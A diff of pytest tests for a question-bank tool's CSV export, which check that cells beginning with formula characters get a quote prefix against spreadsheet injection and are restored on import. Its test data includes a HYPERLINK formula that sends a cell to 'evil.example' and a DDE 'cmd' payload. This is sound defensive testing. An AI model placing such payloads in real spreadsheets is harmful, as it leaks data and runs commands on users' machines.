@@ -55,3 +55,58 @@ def test_cli_offers_every_registered_format() -> None:
 
     fmt = next(p for p in export_.params if p.name == "fmt")
     assert sorted(fmt.type.choices) == sorted(EXPORTERS)
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
+            "\tx", "\rx"]
+
+
+def test_cells_a_spreadsheet_would_run_get_a_quote(bank, tmp_path: Path) -> None:
+    """Issue 10: formulas in stems and options are written as text (OWASP:
+    a leading '), and the import of qb's own export gives them back."""
+    from questionbank.importers.csvfile import import_csv_files
+
+    options = "\n".join(f"      - {{text: {text!r}{', correct: true' if n == 0 else ''}}}".replace("\\t", "\\\\t")
+                        for n, text in enumerate(["'=quoted", "''x", "plain 'quote"]))
+    root = bank({"a.yaml": "items:\n  - id: f\n    type: single\n    stem: '=1+1 is what?'\n"
+                           f"    explanation: '@here'\n    options:\n{options}\n"})
+    result = run_cli("export", "csv", str(root), "-o", str(tmp_path / "out.csv"))
+    assert result.exit_code == 0, result.stdout + result.stderr
+    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
+        row = next(csv.DictReader(handle))
+    assert row["question"] == "'=1+1 is what?" and row["explanation"] == "'@here"
+    assert [row["A"], row["B"], row["C"]] == ["''=quoted", "'''x", "plain 'quote"]
+    import_csv_files([tmp_path / "out.csv"], tmp_path / "back", {})
+    item = load_bank(tmp_path / "back").items[0]
+    assert item.stem == "=1+1 is what?" and item.explanation == "@here"
+    assert [o.text for o in item.options] == ["'=quoted", "''x", "plain 'quote"]
+
+
+def test_neutralize_and_restore() -> None:
+    from questionbank.csvcell import neutralize, restore
+
+    for text in FORMULAS + ["'=x", "''", "'", "'a", "a=b", "", "x"]:
+        assert restore(neutralize(text)) == text
+    assert [neutralize(t)[0] for t in FORMULAS] == ["'"] * len(FORMULAS)
+    assert [neutralize(t) for t in ("'a", "a=b", "", "'")] == ["'a", "a=b", "", "'"]
+
+
+def test_someone_elses_csv_keeps_its_quotes(tmp_path: Path) -> None:
+    """Only a file with exactly the export's header is read as qb's own."""
+    from questionbank.importers.csvfile import import_csv_files
+
+    (tmp_path / "q.csv").write_text("question,A,B,answer\n'=not ours,'+a,b,A\n", encoding="utf-8")
+    import_csv_files([tmp_path / "q.csv"], tmp_path / "back", {})
+    item = load_bank(tmp_path / "back").items[0]
+    assert item.stem == "'=not ours" and item.options[0].text == "'+a"
+
+
+def test_key_csv_cells_that_would_run_get_a_quote(tmp_path: Path) -> None:
+    """key-F.csv: only an id or domain starting with a formula character changes."""
+    from questionbank.render import key_csv
+    from types import SimpleNamespace as NS
+
+    questions = [NS(number=1, answer=("A",), item=NS(id="=cmd|' /C calc'!A0", domain="-x")),
+                 NS(number=2, answer=("B", "D"), item=NS(id="q2", domain="store"))]
+    assert key_csv(NS(questions=questions)).decode() == (
+        "number,item_id,answer,domain\n1,'=cmd|' /C calc'!A0,A,'-x\n2,q2,\"B,D\",store\n")
